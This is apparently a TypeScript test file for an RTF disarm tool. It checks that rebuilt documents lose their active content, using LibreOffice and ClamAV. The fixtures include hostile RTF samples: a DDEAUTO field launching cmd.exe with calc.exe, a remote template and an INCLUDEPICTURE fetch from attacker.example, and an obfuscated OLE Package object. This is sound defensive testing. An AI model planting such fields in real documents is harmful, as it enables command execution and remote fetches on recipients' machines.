/**
 * Independent readers agree with the RTF rebuild: documents exported by headless LibreOffice,
 * then given the active content attackers put into RTF, come out with LibreOffice reading the
 * same text (less what was removed) and ClamAV (a signature database written here) flagging
 * every active input and no output.
 */
import { execFileSync } from 'node:child_process';
import { existsSync } from 'node:fs';
import { mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';

import {
  ACTIVE_CONTENT_SIGNATURES,
  buildEmf,
  buildImage,
  buildWmf,
  clamscanVerdicts,
  equationObject,
  obfuscatedHex,
  ole2LinkObject,
  oleObjectData,
  rtfField,
  rtfHex,
  rtfPicture,
  withRtfBody,
  convertWithLibreOffice,
} from '@disarm/fixtures';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';

import { disarm } from '../src/disarm.ts';
import { encodeBmp } from '../src/handlers/image/bmp/encode.ts';
import { scaledMs } from '@disarm/fixtures/time-budget';

// These tests run for minutes on a busy machine: one hang guard for the file, scaled by the
// machine's load when it starts, so that load makes them slower, never red.
vi.setConfig({ testTimeout: scaledMs(300_000) });

const REPO = resolve(import.meta.dirname, '..', '..', '..');
const TEXTS = ['Quarterly numbers are up', 'Second paragraph'];

let dir: string;
const cases: { name: string; input: Uint8Array; output: Uint8Array; shown: string }[] = [];

/** Headless LibreOffice converting `files` to `format` into `out`, with this test's profile. */
function libreOfficeConvert(format: string, out: string, files: readonly string[]): void {
  convertWithLibreOffice({ to: format, outDir: out, files, profileDir: join(dir, 'profile') });
}

/**
 * LibreOffice's text of every case's file in `folder`, converted in one headless run; a file it
 * cannot convert (some hostile inputs) has none.
 */
function libreOfficeText(folder: string): Record<string, string | undefined> {
  const pdfs = join(folder, 'pdf');
  libreOfficeConvert(
    'pdf',
    pdfs,
    cases.map((c) => join(folder, c.name)),
  );
  const texts: Record<string, string | undefined> = {};
  for (const { name } of cases) {
    const pdf = join(pdfs, name.replace(/\.rtf$/, '.pdf'));
    if (!existsSync(pdf)) continue;
    texts[name] = execFileSync('pdftotext', [pdf, '-'], { encoding: 'utf8' })
      .replace(/\s+/g, ' ')
      .trim();
  }
  return texts;
}

beforeAll(async () => {
  execFileSync('bash', [join(REPO, 'scripts', 'ensure-system-deps.sh')], { stdio: 'ignore' });
  dir = await mkdtemp(join(tmpdir(), 'rtf-independent-'));
  await writeFile(join(dir, 'disarm.ndb'), ACTIVE_CONTENT_SIGNATURES);
  // The base document: plain paragraphs, exported to RTF by LibreOffice as a user would.
  await mkdir(join(dir, 'base'), { recursive: true });
  await writeFile(join(dir, 'base', 'base.txt'), TEXTS.join('\n\n'));
  libreOfficeConvert('rtf', join(dir, 'base'), [join(dir, 'base', 'base.txt')]);
  const base = await readFile(join(dir, 'base', 'base.rtf'));
  const png = await buildImage('png', { width: 24, height: 24 });
  // A packed DIB: a BMP file without its file header.
  const dib = encodeBmp({
    width: 3,
    height: 2,
    channels: 3,
    data: new Uint8Array(18).fill(90),
  }).subarray(14);
  const ole = oleObjectData('Package', { '\u0001Ole10Native': Buffer.from('MZ payload') });
  const inputs: [string, string, string][] = [
    // [file name, RTF put before the document's end, the text LibreOffice shows of it once rebuilt]
    ['plain.rtf', '', ''],
    ['equation.rtf', `\\par ${equationObject({ result: 'Equation result' })}`, 'Equation result'],
    ['ole2link.rtf', `\\par ${ole2LinkObject()}`, 'Linked text'],
    [
      'obfuscated.rtf',
      `\\par {\\object\\objemb{\\*\\objclass Package}{\\*\\objdata ${obfuscatedHex(ole)}}{\\result Package result}}`,
      'Package result',
    ],
    ['template.rtf', '{\\*\\template http://attacker.example/t.dotm}', ''],
    [
      'dde.rtf',
      `\\par ${rtfField('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"', 'DDE result')}`,
      'DDE result',
    ],
    [
      'includepicture.rtf',
      `\\par ${rtfField('INCLUDEPICTURE "http://attacker.example/p.png" \\d', 'Picture result')}`,
      'Picture result',
    ],
    [
      'pictures.rtf',
      `\\par ${rtfPicture('pngblip', png)}${rtfPicture('emfblip', buildEmf({ caption: 'Caption' }))}` +
        `{\\pict\\picw24\\pich24\\wmetafile8 ${rtfHex(buildWmf())}}` +
        `{\\pict\\picw3\\pich2\\dibitmap0 ${rtfHex(dib)}}`,
      '',
    ],
  ];
  await mkdir(join(dir, 'in'), { recursive: true });
  await mkdir(join(dir, 'out'), { recursive: true });
  for (const [name, snippet, shown] of inputs) {
    const input = snippet === '' ? base : withRtfBody(base, snippet);
    const outcome = await disarm({ bytes: input, fileName: name });
    if (outcome.status !== 'cleaned') throw new Error(`${name}: ${outcome.detail}`);
    cases.push({ name, input, output: outcome.bytes, shown });
    await writeFile(join(dir, 'in', name), input);
    await writeFile(join(dir, 'out', name), outcome.bytes);
  }
});

afterAll(async () => {
  await rm(dir, { recursive: true, force: true });
});

describe('RTF outputs, as independent readers see them', () => {
  it('LibreOffice reads every output with the text of its input, less what was removed', () => {
    const outputs = libreOfficeText(join(dir, 'out'));
    const inputs = libreOfficeText(join(dir, 'in'));
    expect(inputs['plain.rtf']).toBe(TEXTS.join(' '));
    for (const { name, shown } of cases) {
      expect(outputs[name], name).toMatch(new RegExp(`^${TEXTS.join(' ')}\\b`));
      expect(outputs[name], name).toContain(shown);
      // The removed objects, fields and templates showed nothing but their result: where
      // LibreOffice opens the input at all, it reads the same text in both.
      if (inputs[name] !== undefined) expect(outputs[name], name).toBe(inputs[name]);
    }
    // LibreOffice cannot open the input with object data split by groups at all.
    expect(inputs['obfuscated.rtf']).toBeUndefined();
    expect(outputs['obfuscated.rtf']).toBe(`${TEXTS.join(' ')} Package result`);
  });

  it('LibreOffice writes no DDE field back when it saves an output as Word', () => {
    const saved = (folder: string): string => {
      const out = join(folder, 'docx');
      libreOfficeConvert('docx', out, [join(folder, 'dde.rtf')]);
      return execFileSync('unzip', ['-p', join(out, 'dde.docx'), 'word/document.xml'], {
        encoding: 'utf8',
      });
    };
    expect(saved(join(dir, 'in'))).toContain('DDEAUTO');
    const rebuilt = saved(join(dir, 'out'));
    expect(rebuilt).not.toContain('DDEAUTO');
    expect(rebuilt).toContain('DDE result');
  });

  it('LibreOffice keeps the rebuilt pictures', () => {
    const out = join(dir, 'odt');
    libreOfficeConvert('odt', out, [join(dir, 'out', 'pictures.rtf')]);
    const members = execFileSync('unzip', ['-Z1', join(out, 'pictures.odt')], {
      encoding: 'utf8',
    });
    // Each picture kind is kept (LibreOffice adds PNG previews of the metafiles).
    const kinds = new Set(members.match(/(?<=^Pictures\/[0-9A-F]+\.)[a-z]+$/gm));
    expect([...kinds].sort()).toEqual(['bmp', 'emf', 'png', 'wmf']);
  });

  it('ClamAV flags every active input and no output', () => {
    const inputs = clamscanVerdicts(join(dir, 'in'), join(dir, 'disarm.ndb'));
    const outputs = clamscanVerdicts(join(dir, 'out'), join(dir, 'disarm.ndb'));
    for (const { name } of cases) {
      if (name !== 'plain.rtf' && name !== 'pictures.rtf') {
        expect(inputs[name], `input ${name}`).toMatch(/^(Disarm\.|Heuristics\.)/);
      }
      expect(outputs[name], `output ${name}`).toBe('OK');
    }
    expect(inputs['plain.rtf']).toBe('OK');
  });
});
